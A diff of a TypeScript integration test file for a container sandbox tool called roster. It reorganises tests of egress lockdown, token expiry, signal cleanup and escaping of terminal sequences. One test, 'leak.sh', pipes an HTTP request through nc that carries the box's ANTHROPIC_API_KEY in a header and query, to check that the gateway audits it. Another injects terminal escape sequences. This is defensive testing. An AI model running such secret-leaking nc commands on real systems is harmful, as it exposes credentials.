@@ -4,7 +4,7 @@ import * as fs from "node:fs"
 import * as net from "node:net"
 import * as os from "node:os"
 import * as path from "node:path"
-import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
 import { egressChainName, lockdownNetworkName } from "../../src/contract/deployment.js"
 import { latestRunId } from "../support/runs.js"
 import { collect, type Deployment, HOST_KEY, makeDeployment, ROSTER_BIN, TEST_IMAGE } from "../support/deployment.js"
@@ -13,6 +13,8 @@ import { removeLockdownRules } from "../support/lockdownRules.js"
 import { auditedOnce } from "../support/audit.js"
 import { engineGate } from "../support/engineGate.js"
 import { ACT, SHOWN_LINES, SHOWN_PROMPT } from "../support/boxScripts.js"
+import { leftovers } from "../support/leftovers.js"
+import { warmBoxOf } from "../support/warmBoxes.js"
 
 const docker = new Dockerode()
 /** The boxes of the deployment under test (never another suite's on the same engine). */
@@ -39,9 +41,9 @@ const script = (d: Deployment, name: string, body: string) => {
 
 /** The running boxes, once there is one (30 s at most). */
 /** The deployment's running boxes, once there is one: a box of an earlier test still being removed (listed with all: true) is not one. */
-const waitForBox = async () => {
+const waitForBox = async (list: () => Promise<ReadonlyArray<Dockerode.ContainerInfo>> = boxes) => {
   const deadline = Date.now() + 30_000
-  const runningNow = async () => (await boxes()).filter((c) => c.State === "running")
+  const runningNow = async () => (await list()).filter((c) => c.State === "running")
   let running = await runningNow()
   while (running.length === 0 && Date.now() < deadline) {
     await new Promise((r) => setTimeout(r, 100))
@@ -90,12 +92,6 @@ describe.each(["runc", "runsc"] as const)("the one-shot box under %s, on a real 
     outside?.close()
   })
 
-  // A check of roster's own — the CLI's lines and signals, the hand-over to the daemon, the
-  // gateway's audit and tokens — is the same whatever runs the box: made under runc alone. What
-  // the runtime could change (the lockdown, egress, the box's limits and insides, the preflight,
-  // exit codes, the ceiling's kill) is made under both.
-  // (Not defined at all under runsc, rather than skipped: the count says what ran.)
-  const ownIt = runtime === "runc" ? it : Object.assign(() => {}, { each: () => () => {} }) as unknown as typeof it
 
   it("runs a box that prints JSON lines and exits 0", async () => {
     const r = await d.roster(["worker", "run", "alice", `!echo '{"type":"one"}'; echo '{"type":"two"}'; ${ACT}act message_user '{"text":"after the check"}'`])
@@ -117,21 +113,6 @@ describe.each(["runc", "runsc"] as const)("the one-shot box under %s, on a real 
     expect((await d.roster(["runs", "show", run.record.run_id])).stdout).toContain(`  preflight: passed — gateway answers, no way out to ${probe.probe}\n`)
     expect(identityFiles(d)).toEqual([])
     expect(await boxes()).toEqual([])
-  })
-
-  ownIt("box text with terminal escapes is shown, never obeyed: worker run's live view and runs show", async () => {
-    // \u001b in the JSON is a real ESC once parsed: a window-title write and a screen clear.
-    const event = `{"type":"message_end","message":{"role":"assistant","content":[{"type":"text","text":"hi \\u001b]0;pwned\\u0007 \\u001b[2J there"}],"stopReason":"stop"}}`
-    const r = await d.roster(["worker", "run", "alice", `!echo '${event}'`])
-    expect(r.code, r.stderr).toBe(0)
-    expect(r.stdout).toContain("alice: hi ␛]0;pwned␇ ␛[2J there")
-    expect(r.stdout).not.toContain("\x1b")
-    const shown = await d.roster(["runs", "show", lastRun(d).record.run_id])
-    expect(shown.stdout).toContain("final text: hi ␛]0;pwned␇")
-    expect(shown.stdout).toMatch(new RegExp(`^  runtime:   ${runtime}( \\(gVisor\\))?$`, "m"))
-    // The box ended at once, before its check reported: nothing of it left the box.
-    expect(shown.stdout).toContain("  preflight: none (the box ended before its check reported")
-    expect(shown.stdout).not.toContain("\x1b")
   })
 
   it("a box cut off from its gateway (a stale rule) fails its preflight at once, with the reason and the fix", async () => {
@@ -220,89 +201,6 @@ describe.each(["runc", "runsc"] as const)("the one-shot box under %s, on a real 
     expect(await boxes()).toEqual([])
   })
 
-  ownIt("a ceiling's kill the engine refuses is said at once and recorded; the daemon's reaper stops the box once its deadline has passed", async () => {
-    const gate = await engineGate(/^NEVER/, { refuse: /^POST \S*\/containers\/\S+\/kill/ })
-    try {
-      // Run by the CLI itself (its engine is not the daemon's), through a gate that refuses every kill.
-      const r = await collect(spawn(ROSTER_BIN, ["worker", "run", "alice", "--ceiling", "0.05", "!echo started; sleep 100000"], {
-        env: { ...d.env, DOCKER_HOST: gate.dockerHost }, stdio: ["ignore", "pipe", "pipe"]
-      }))
-      expect(r.code, r.stderr).toBe(2)
-      expect(r.stderr).toMatch(/its box's kill was refused by the engine \(.*refused by the test's engine gate.*\); it may still run/)
-      expect(gate.refused.length).toBeGreaterThan(0)
-      const run = lastRun(d)
-      expect(run.record).toMatchObject({ ended_by: "ceiling", kill_error: expect.stringContaining("refused by the test's engine gate") })
-      // Its owner (the CLI) gone and its deadline passed: the daemon, on the real engine, kills it.
-      const deadline = Date.now() + 20_000
-      while ((await boxes()).length > 0 && Date.now() < deadline) await new Promise((res) => setTimeout(res, 250))
-      expect(await boxes()).toEqual([])
-      expect(identityFiles(d)).toEqual([])
-    } finally {
-      gate.close()
-    }
-  })
-
-  ownIt.each([["SIGINT", 130], ["SIGTERM", 143]] as const)(
-    "on %s leaves no container, no token, and run.json ended_by signal; exits %i",
-    async (signal, code) => {
-      const child = d.spawn(["worker", "run", "alice", "!sleep 100000"])
-      const done = collect(child)
-      expect(await waitForBox()).toHaveLength(1)
-      expect(identityFiles(d)).toHaveLength(1)
-      child.kill(signal)
-      const r = await done
-      expect(r.code).toBe(code)
-      expect(await boxes()).toEqual([])
-      expect(identityFiles(d)).toEqual([])
-      const run = lastRun(d)
-      expect(run.record.ended_by).toBe("signal")
-      // The two closing lines every ending prints, printed after the box is gone.
-      expect(r.stdout).toContain(`box ${run.record.run_id} ended by signal (exit code none)`)
-      expect(r.stdout).toContain(`outputs: ${d.file("data", "runs", "alice", run.record.run_id)}`)
-    }
-  )
-
-  ownIt("worker run is handed to the running daemon: the same lines, on the same streams, and the same exit code as the CLI running it itself", async () => {
-    const prompt = SHOWN_PROMPT
-    const runWith = (handoff: "0" | "1") =>
-      collect(spawn(ROSTER_BIN, ["worker", "run", "alice", "--ceiling", "5", prompt], { env: { ...d.env, ROSTER_HANDOFF: handoff }, stdio: ["ignore", "pipe", "pipe"] }))
-    const itself = await runWith("0")
-    const itselfRun = lastRun(d)
-    const handed = await runWith("1")
-    const handedRun = lastRun(d)
-    // The daemon ran the second (the run's record names the daemon as its owner), the CLI the first.
-    expect(handedRun.record.run_id).not.toBe(itselfRun.record.run_id)
-    expect(itselfRun.record.owner.pid).not.toBe(handedRun.record.owner.pid)
-    expect(handedRun.record.owner.pid).toBe((JSON.parse((await d.roster(["server", "status", "--json"])).stdout) as { pid: number }).pid)
-    const same = (s: string, runId: string) => s.replaceAll(runId, "RUN")
-    expect(handed.code).toBe(5)
-    expect(itself.code).toBe(5)
-    expect(same(handed.stdout, handedRun.record.run_id)).toBe(same(itself.stdout, itselfRun.record.run_id))
-    expect(same(handed.stderr, handedRun.record.run_id)).toBe(same(itself.stderr, itselfRun.record.run_id))
-    // What both printed: the live lines (box text escaped), the message, the stderr tail, the two closing lines.
-    expect(handed.stdout).toContain(SHOWN_LINES)
-    expect(handed.stdout).toContain("message from alice: a note\n")
-    expect(handed.stdout).toContain(`box ${handedRun.record.run_id} ended by exit (exit code 5)\n`)
-    expect(handed.stderr).toContain("to stderr")
-    expect(handedRun.record).toMatchObject({ kind: "box", ended_by: "exit", exit_code: 5 })
-  })
-
-  ownIt("a handed-over run whose CLI is killed with -9 ends at once: its box and token gone, its record finished", async () => {
-    const child = d.spawn(["worker", "run", "alice", "!sleep 100000"])
-    const done = collect(child)
-    expect(await waitForBox()).toHaveLength(1)
-    child.kill("SIGKILL")
-    await done
-    const deadline = Date.now() + 10_000
-    while ((await boxes()).length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
-    expect(await boxes()).toEqual([])
-    expect(identityFiles(d)).toEqual([])
-    // The record is finished last, as the run's scope closes (after its box and token are gone).
-    // A record not yet finished has finished_at null (run.json's schema), so wait on it being a string.
-    while (typeof lastRun(d).record?.finished_at !== "string" && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
-    expect(lastRun(d).record).toMatchObject({ ended_by: "signal", finished_at: expect.any(String) })
-  })
-
   it("a default box is bounded: 4g of memory and half the host's cores", async () => {
     const child = d.spawn(["worker", "run", "alice", "!sleep 30"])
     const done = collect(child)
@@ -389,29 +287,6 @@ describe.each(["runc", "runsc"] as const)("the one-shot box under %s, on a real 
     expect(mine.every((x) => x.subject === "org/alice")).toBe(true)
   })
 
-  ownIt("a request that leaves with the sentinel is audited by place, and worker run warns once", async () => {
-    const allow = (port: number) => `[[allow]]\nhosts = ["${outside.address}"]\nports = [${port}]\nscope = ["org/*"]\n`
-    d.writeOrg(`${allow(outside.port)}${allow(outside.httpPort)}`)
-    try {
-      // A plain-http request through the proxy, carrying the box's sentinel (its ANTHROPIC_API_KEY) in a header and the query.
-      const send = `(printf 'GET http://${outside.address}:${outside.httpPort}/x?k=%s HTTP/1.1\\r\\nHost: ${outside.address}\\r\\n` +
-        `Proxy-Authorization: Basic %s\\r\\nX-Other: %s\\r\\nConnection: close\\r\\n\\r\\n' "$ANTHROPIC_API_KEY" "$A" "$ANTHROPIC_API_KEY"; sleep 1) | nc -w 3 host.docker.internal "$P"`
-      const r = await d.roster(["worker", "run", "alice", script(d, "leak.sh", `${CONNECT}${send}\n${send}\n`)])
-      expect(r.code, r.stderr).toBe(0)
-      const runId = lastRun(d).record.run_id
-      const warnings = r.stderr.split("\n").filter((l) => l.startsWith("warning: a request to"))
-      expect(warnings).toHaveLength(1)
-      expect(warnings[0]).toContain("header:x-other, query")
-      expect(lastRun(d).record.warnings).toHaveLength(1)
-      const audited = fs.readdirSync(d.file("state", "audit")).flatMap((f) => fs.readFileSync(path.join(d.file("state", "audit"), f), "utf8").trim().split("\n"))
-        .map((l) => JSON.parse(l)).filter((x) => x.run_id === runId && x.host !== "roster-gateway")
-      expect(audited.map((x) => x.sentinel_unsubstituted)).toEqual([["header:x-other", "query"], ["header:x-other", "query"]])
-      expect((await d.roster(["runs", "show", runId])).stdout).toContain("warning:   a request to")
-    } finally {
-      d.writeOrg(allow(outside.port))
-    }
-  })
-
   it("a request without the run's token from a box is refused with 407", async () => {
     const r = await d.roster(["worker", "run", "alice", script(d, "notoken.sh", [
       "P=${HTTP_PROXY##*:}",
@@ -468,30 +343,6 @@ describe.each(["runc", "runsc"] as const)("the one-shot box under %s, on a real 
     expect(everything).not.toContain(VAULT_KEY)
     expect(everything).not.toContain(HOST_KEY)
     await d.roster(["connection", "rm", "anthropic"])
-  })
-
-  ownIt("a token is dead once its run has ended, even if its file were left behind", async () => {
-    const r = await d.roster(["worker", "run", "alice", "!echo proxy=$HTTP_PROXY"])
-    expect(r.code, r.stderr).toBe(0)
-    const token = /proxy=http:\/\/([0-9a-f]{64}):x@/.exec(lastRun(d).stdout)?.[1] ?? ""
-    expect(token).toHaveLength(64)
-    const stale = d.file("state", "identity", `${token}.json`)
-    expect(fs.existsSync(stale)).toBe(false)
-    fs.writeFileSync(stale, JSON.stringify({ subject: "org/alice", run_id: lastRun(d).record.run_id, worker: "alice", task_id: null }), { mode: 0o600 })
-    try {
-      const answer = await new Promise<string>((resolve) => {
-        const s = net.connect(d.port, "127.0.0.1")
-        let data = ""
-        s.on("data", (c) => (data += c.toString()))
-        s.on("close", () => resolve(data))
-        s.write(`CONNECT ${outside.address}:${outside.port} HTTP/1.1\r\nProxy-Authorization: Basic ${Buffer.from(`${token}:x`).toString("base64")}\r\n\r\n`)
-        setTimeout(() => s.end(), 1000)
-      })
-      expect(answer).toContain("407")
-      expect(answer).not.toContain(outside.greeting)
-    } finally {
-      fs.rmSync(stale, { force: true })
-    }
   })
 
   it("with egress_lockdown the host is reachable from a box only on the gateway port; the lockdown is its deployment's alone", async () => {
@@ -571,3 +422,185 @@ describe.each(["runc", "runsc"] as const)("the one-shot box under %s, on a real 
 const spawnWith = (d: Deployment, extra: Record<string, string>, args: ReadonlyArray<string>) =>
   spawn(ROSTER_BIN, [...args], { env: { ...d.env, ...extra }, stdio: ["ignore", "pipe", "pipe"] })
 
+// A check of roster's own — the CLI's lines and signals, the hand-over to the daemon, the gateway's
+// audit and tokens — is the same whatever runs the box: made once, under what a user gets (the
+// runtime roster picks, gVisor here, and warm boxes on: a handed-over run takes its worker's warm box).
+// What the runtime could change (the lockdown, egress, the box's limits and insides, the preflight,
+// exit codes, the ceiling's kill) is made under both runtimes above, cold.
+describe("roster's own handling of a run under the defaults (gVisor, warm boxes), on a real Docker engine, through the real gateway", () => {
+  let d: Deployment
+  let outside: OutsideHost
+  const runtime = "runsc"
+
+  beforeAll(async () => {
+    outside = await makeOutsideHost()
+    d = await makeDeployment(`[[allow]]\nhosts = ["${"198.51.100.7"}"]\nports = [9099]\nscope = ["org/*"]\n`, TEST_IMAGE)
+    deploymentLabel = `roster.deployment=${d.file("config")}`
+    // A first run of alice: the daemon keeps a warm box for a worker that ran lately.
+    const first = await d.roster(["worker", "run", "alice", "!exit 0"])
+    expect(first.code, first.stderr).toBe(0)
+  })
+
+  // Each check's run takes alice's warm box, as a user's next run would: the daemon makes the next one after each run.
+  beforeEach(async () => {
+    expect(await warmBoxOf(docker, d.file("config"), "alice"), "alice's warm box").not.toBe("")
+  })
+
+  afterAll(async () => {
+    await d?.stop()
+    outside?.close()
+  })
+
+  /** The deployment's boxes that are not warm boxes waiting: a run's (a cold box, or a warm box a run took). */
+  const runBoxes = async () => (await leftovers(d.file("config"), d.file("state"), { all: true })).runBoxes
+  /** Tokens that are a run's, not a waiting warm box's. */
+  const runTokens = () => identityFiles(d).filter((f) => !(JSON.parse(fs.readFileSync(d.file("state", "identity", f), "utf8")) as { warm?: boolean }).warm)
+  /** A run's box running, once there is one (30 s at most): not a warm box waiting. */
+  const waitForRunBox = () => waitForBox(runBoxes)
+
+  it("box text with terminal escapes is shown, never obeyed: worker run's live view and runs show", async () => {
+    // \u001b in the JSON is a real ESC once parsed: a window-title write and a screen clear.
+    const event = `{"type":"message_end","message":{"role":"assistant","content":[{"type":"text","text":"hi \\u001b]0;pwned\\u0007 \\u001b[2J there"}],"stopReason":"stop"}}`
+    const r = await d.roster(["worker", "run", "alice", `!echo '${event}'`])
+    expect(r.code, r.stderr).toBe(0)
+    expect(r.stdout).toContain("alice: hi ␛]0;pwned␇ ␛[2J there")
+    expect(r.stdout).not.toContain("\x1b")
+    const shown = await d.roster(["runs", "show", lastRun(d).record.run_id])
+    expect(shown.stdout).toContain("final text: hi ␛]0;pwned␇")
+    expect(shown.stdout).toMatch(new RegExp(`^  runtime:   ${runtime} \\(gVisor\\)$`, "m"))
+    // The run took alice's warm box, whose check had reported before the run began.
+    expect(lastRun(d).record).toMatchObject({ warm: true, preflight: { ok: true } })
+    expect(shown.stdout).toContain("  preflight: passed")
+    expect(shown.stdout).not.toContain("\x1b")
+  })
+
+  it("a ceiling's kill the engine refuses is said at once and recorded; the daemon's reaper stops the box once its deadline has passed", async () => {
+    const gate = await engineGate(/^NEVER/, { refuse: /^POST \S*\/containers\/\S+\/kill/ })
+    try {
+      // Run by the CLI itself (its engine is not the daemon's), through a gate that refuses every kill.
+      const r = await collect(spawn(ROSTER_BIN, ["worker", "run", "alice", "--ceiling", "0.05", "!echo started; sleep 100000"], {
+        env: { ...d.env, DOCKER_HOST: gate.dockerHost }, stdio: ["ignore", "pipe", "pipe"]
+      }))
+      expect(r.code, r.stderr).toBe(2)
+      expect(r.stderr).toMatch(/its box's kill was refused by the engine \(.*refused by the test's engine gate.*\); it may still run/)
+      expect(gate.refused.length).toBeGreaterThan(0)
+      const run = lastRun(d)
+      expect(run.record).toMatchObject({ ended_by: "ceiling", kill_error: expect.stringContaining("refused by the test's engine gate") })
+      // Its owner (the CLI) gone and its deadline passed: the daemon, on the real engine, kills it.
+      const deadline = Date.now() + 20_000
+      while ((await runBoxes()).length > 0 && Date.now() < deadline) await new Promise((res) => setTimeout(res, 250))
+      expect(await runBoxes()).toEqual([])
+      expect(runTokens()).toEqual([])
+    } finally {
+      gate.close()
+    }
+  })
+
+  it.each([["SIGINT", 130], ["SIGTERM", 143]] as const)(
+    "on %s leaves no container, no token, and run.json ended_by signal; exits %i",
+    async (signal, code) => {
+      const child = d.spawn(["worker", "run", "alice", "!sleep 100000"])
+      const done = collect(child)
+      expect(await waitForRunBox()).toHaveLength(1)
+      expect(runTokens()).toHaveLength(1)
+      child.kill(signal)
+      const r = await done
+      expect(r.code).toBe(code)
+      expect(await runBoxes()).toEqual([])
+      expect(runTokens()).toEqual([])
+      const run = lastRun(d)
+      expect(run.record.ended_by).toBe("signal")
+      // The two closing lines every ending prints, printed after the box is gone.
+      expect(r.stdout).toContain(`box ${run.record.run_id} ended by signal (exit code none)`)
+      expect(r.stdout).toContain(`outputs: ${d.file("data", "runs", "alice", run.record.run_id)}`)
+    }
+  )
+
+  it("worker run is handed to the running daemon: the same lines, on the same streams, and the same exit code as the CLI running it itself", async () => {
+    const prompt = SHOWN_PROMPT
+    const runWith = (handoff: "0" | "1") =>
+      collect(spawn(ROSTER_BIN, ["worker", "run", "alice", "--ceiling", "5", prompt], { env: { ...d.env, ROSTER_HANDOFF: handoff }, stdio: ["ignore", "pipe", "pipe"] }))
+    const itself = await runWith("0")
+    const itselfRun = lastRun(d)
+    const handed = await runWith("1")
+    const handedRun = lastRun(d)
+    // The daemon ran the second (the run's record names the daemon as its owner), the CLI the first.
+    expect(handedRun.record.run_id).not.toBe(itselfRun.record.run_id)
+    expect(itselfRun.record.owner.pid).not.toBe(handedRun.record.owner.pid)
+    expect(handedRun.record.owner.pid).toBe((JSON.parse((await d.roster(["server", "status", "--json"])).stdout) as { pid: number }).pid)
+    const same = (s: string, runId: string) => s.replaceAll(runId, "RUN")
+    expect(handed.code).toBe(5)
+    expect(itself.code).toBe(5)
+    expect(same(handed.stdout, handedRun.record.run_id)).toBe(same(itself.stdout, itselfRun.record.run_id))
+    expect(same(handed.stderr, handedRun.record.run_id)).toBe(same(itself.stderr, itselfRun.record.run_id))
+    // What both printed: the live lines (box text escaped), the message, the stderr tail, the two closing lines.
+    expect(handed.stdout).toContain(SHOWN_LINES)
+    expect(handed.stdout).toContain("message from alice: a note\n")
+    expect(handed.stdout).toContain(`box ${handedRun.record.run_id} ended by exit (exit code 5)\n`)
+    expect(handed.stderr).toContain("to stderr")
+    expect(handedRun.record).toMatchObject({ kind: "box", ended_by: "exit", exit_code: 5 })
+  })
+
+  it("a handed-over run whose CLI is killed with -9 ends at once: its box and token gone, its record finished", async () => {
+    const child = d.spawn(["worker", "run", "alice", "!sleep 100000"])
+    const done = collect(child)
+    expect(await waitForRunBox()).toHaveLength(1)
+    child.kill("SIGKILL")
+    await done
+    const deadline = Date.now() + 10_000
+    while ((await runBoxes()).length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
+    expect(await runBoxes()).toEqual([])
+    expect(runTokens()).toEqual([])
+    // The record is finished last, as the run's scope closes (after its box and token are gone).
+    // A record not yet finished has finished_at null (run.json's schema), so wait on it being a string.
+    while (typeof lastRun(d).record?.finished_at !== "string" && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
+    expect(lastRun(d).record).toMatchObject({ ended_by: "signal", finished_at: expect.any(String) })
+  })
+
+  it("a request that leaves with the sentinel is audited by place, and worker run warns once", async () => {
+    const allow = (port: number) => `[[allow]]\nhosts = ["${outside.address}"]\nports = [${port}]\nscope = ["org/*"]\n`
+    d.writeOrg(`${allow(outside.port)}${allow(outside.httpPort)}`)
+    try {
+      // A plain-http request through the proxy, carrying the box's sentinel (its ANTHROPIC_API_KEY) in a header and the query.
+      const send = `(printf 'GET http://${outside.address}:${outside.httpPort}/x?k=%s HTTP/1.1\\r\\nHost: ${outside.address}\\r\\n` +
+        `Proxy-Authorization: Basic %s\\r\\nX-Other: %s\\r\\nConnection: close\\r\\n\\r\\n' "$ANTHROPIC_API_KEY" "$A" "$ANTHROPIC_API_KEY"; sleep 1) | nc -w 3 host.docker.internal "$P"`
+      const r = await d.roster(["worker", "run", "alice", script(d, "leak.sh", `${CONNECT}${send}\n${send}\n`)])
+      expect(r.code, r.stderr).toBe(0)
+      const runId = lastRun(d).record.run_id
+      const warnings = r.stderr.split("\n").filter((l) => l.startsWith("warning: a request to"))
+      expect(warnings).toHaveLength(1)
+      expect(warnings[0]).toContain("header:x-other, query")
+      expect(lastRun(d).record.warnings).toHaveLength(1)
+      const audited = fs.readdirSync(d.file("state", "audit")).flatMap((f) => fs.readFileSync(path.join(d.file("state", "audit"), f), "utf8").trim().split("\n"))
+        .map((l) => JSON.parse(l)).filter((x) => x.run_id === runId && x.host !== "roster-gateway")
+      expect(audited.map((x) => x.sentinel_unsubstituted)).toEqual([["header:x-other", "query"], ["header:x-other", "query"]])
+      expect((await d.roster(["runs", "show", runId])).stdout).toContain("warning:   a request to")
+    } finally {
+      d.writeOrg(allow(outside.port))
+    }
+  })
+
+  it("a token is dead once its run has ended, even if its file were left behind", async () => {
+    const r = await d.roster(["worker", "run", "alice", "!echo proxy=$HTTP_PROXY"])
+    expect(r.code, r.stderr).toBe(0)
+    const token = /proxy=http:\/\/([0-9a-f]{64}):x@/.exec(lastRun(d).stdout)?.[1] ?? ""
+    expect(token).toHaveLength(64)
+    const stale = d.file("state", "identity", `${token}.json`)
+    expect(fs.existsSync(stale)).toBe(false)
+    fs.writeFileSync(stale, JSON.stringify({ subject: "org/alice", run_id: lastRun(d).record.run_id, worker: "alice", task_id: null }), { mode: 0o600 })
+    try {
+      const answer = await new Promise<string>((resolve) => {
+        const s = net.connect(d.port, "127.0.0.1")
+        let data = ""
+        s.on("data", (c) => (data += c.toString()))
+        s.on("close", () => resolve(data))
+        s.write(`CONNECT ${outside.address}:${outside.port} HTTP/1.1\r\nProxy-Authorization: Basic ${Buffer.from(`${token}:x`).toString("base64")}\r\n\r\n`)
+        setTimeout(() => s.end(), 1000)
+      })
+      expect(answer).toContain("407")
+      expect(answer).not.toContain(outside.greeting)
+    } finally {
+      fs.rmSync(stale, { force: true })
+    }
+  })
+})
